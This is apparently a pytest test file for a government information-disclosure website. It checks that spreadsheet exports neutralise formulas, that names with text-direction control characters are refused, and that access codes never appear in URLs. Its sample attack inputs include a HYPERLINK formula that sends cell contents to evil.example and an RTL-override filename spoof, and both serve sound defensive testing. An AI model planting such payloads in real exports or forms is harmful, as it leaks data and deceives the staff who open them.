"""What leaves the site cannot turn against the staff or the applicant (issue 13, point 11): exported
cells never run as formulas, names carry no hidden direction controls, and access codes stay out of
addresses (server logs, browser history, referrers).
"""

import csv
import io
import json

import openpyxl
import pytest
from cryptography.fernet import Fernet
from gongkai_site.spreadsheets import neutralise

from accountability.models import AccountabilityCase
from cms_pages.models import DisclosureItemPage
from disclosure_requests.forms import RequestForm
from disclosure_requests.models import DisclosureRequest
from disclosure_requests.services import submit
from tests.support.captcha import api_captcha, solved

ATTACKS = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1"]


def test_the_shared_helper_quotes_every_formula_start_and_leaves_numbers_alone():
    for text in ATTACKS:
        assert neutralise(text) == "'" + text
    assert neutralise("关于=号的说明") == "关于=号的说明"
    assert neutralise(-5) == -5 and neutralise(None) is None


def exported(client, url, export_format):
    response = client.get(url, {"export": export_format})
    assert response.status_code == 200
    content = b"".join(response.streaming_content) if response.streaming else response.content
    if export_format == "csv":
        return [cell for row in csv.reader(io.StringIO(content.decode("utf-8"))) for cell in row]
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    return [cell for row in sheet.iter_rows() for cell in row]


def assert_neutralised(cells, texts):
    """Each of `texts` is in the export only as text starting with ' (and never as a formula)."""
    values = [cell if isinstance(cell, str) else cell.value for cell in cells]
    for text in texts:
        assert "'" + text in values, text
        assert text not in values, text
    for cell in cells:
        if not isinstance(cell, str):
            assert cell.data_type != "f", cell.value


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_the_catalogue_export_neutralises_formulas(make_item, client, export_format):
    make_item(title=ATTACKS[0], summary=ATTACKS[3], doc_number=ATTACKS[1], subject_words=ATTACKS[2])
    client.force_login(user_with_superuser())
    cells = exported(client, "/admin/catalogue_items/", export_format)
    assert_neutralised(cells, ATTACKS[:4])
    assert DisclosureItemPage.objects.get().title == ATTACKS[0]  # stored as written, changed only in exports


def user_with_superuser():
    from django.contrib.auth import get_user_model

    return get_user_model().objects.create_superuser("export-admin", "admin@example.cn", "x")


@pytest.fixture
def field_key(settings):
    settings.GONGKAI_FIELD_KEY = Fernet.generate_key().decode()


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_the_register_export_neutralises_what_an_applicant_wrote(
    site_structure, field_key, client, export_format
):
    form = RequestForm(
        {
            "applicant_type": "citizen",
            "name": ATTACKS[3],
            "id_type": "passport",
            "id_number": "E12345678",
            "phone": "13887654321",
            "description": ATTACKS[0],
            "carrier": "paper",
            "delivery": "collect",
        }
    )
    assert form.is_valid(), form.errors
    submit(form, DisclosureRequest.Channel.ONLINE)
    client.force_login(user_with_superuser())
    cells = exported(client, "/admin/snippets/disclosure_requests/disclosurerequest/", export_format)
    assert_neutralised(cells, [ATTACKS[3], ATTACKS[0]])


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_the_accountability_register_export_neutralises_formulas(site_structure, client, export_format):
    AccountabilityCase.objects.create(breach=1, facts=ATTACKS[2])
    client.force_login(user_with_superuser())
    cells = exported(client, "/admin/snippets/accountability/accountabilitycase/", export_format)
    assert_neutralised(cells, [ATTACKS[2]])


# -- names without direction controls --------------------------------------------------------------

BIDI = [
    "\u202e",
    "\u202a",
    "\u202b",
    "\u202c",
    "\u202d",
    "\u2066",
    "\u2067",
    "\u2068",
    "\u2069",
    "\u200e",
    "\u200f",
]
BIDI_MESSAGE = "不能包含改变文字显示方向的控制字符"


def test_direction_controls_are_refused_in_every_name_on_the_public_form(
    site_structure, field_key, client, settings
):
    from tests.test_requests_public import FORM

    settings.GONGKAI_REQUEST_RATE = "100/h"  # 33 attempts from one address
    for control in BIDI:
        for field in ("name", "contact_person", "agent_name"):
            page = client.get("/apply/online/").content.decode()
            response = client.post("/apply/online/", {**FORM, field: f"李{control}明", **solved(page)})
            assert response.status_code == 400, (field, hex(ord(control)))
            assert BIDI_MESSAGE in response.content.decode()
            assert f"李{control}明" in response.content.decode()  # what was typed stays, to be corrected
    assert not DisclosureRequest.objects.exists()


def test_direction_controls_are_refused_in_names_sent_to_the_api(site_structure, field_key, client):
    from tests.test_requests_public import API_BODY

    body = {**API_BODY, **api_captcha(), "name": "gpj.exe\u202eLIAM"}
    response = client.post("/api/requests/", json.dumps(body), content_type="application/json")
    assert response.status_code == 400
    assert BIDI_MESSAGE in response.json()["errors"]["name"][0]


# -- access codes never in an address --------------------------------------------------------------


def test_a_status_address_with_the_code_is_sent_back_to_the_form_without_it(site_structure, client):
    response = client.get("/apply/status/", {"code": "SECRET12", "lang": "zh"})
    assert response.status_code == 302 and response["Location"] == "/apply/status/?lang=zh"
    bare = client.get("/apply/status/?access_code=SECRET12")
    assert bare.status_code == 302 and bare["Location"] == "/apply/status/"
    letter = client.get("/apply/status/letters/1/?code=SECRET12")
    assert letter.status_code == 302 and letter["Location"] == "/apply/status/letters/1/"


def test_the_api_says_where_the_code_belongs_instead_of_reading_it_from_the_address(site_structure, client):
    response = client.get("/api/requests/2026-00001/", {"code": "SECRET12"})
    assert response.status_code == 400
    assert "X-Access-Code" in response.json()["errors"]["__all__"][0]


def test_the_status_page_offers_letters_as_posted_forms_without_the_code(site_structure, field_key, client):
    from tests.support.captcha import look_up
    from tests.test_requests_public import applied

    number, code = applied(client)
    html = look_up(client, number, code).content.decode()
    assert '<form method="post" action="/apply/status/letters/' in html
    assert f"?code={code}" not in html and 'href="/apply/status/letters/' not in html
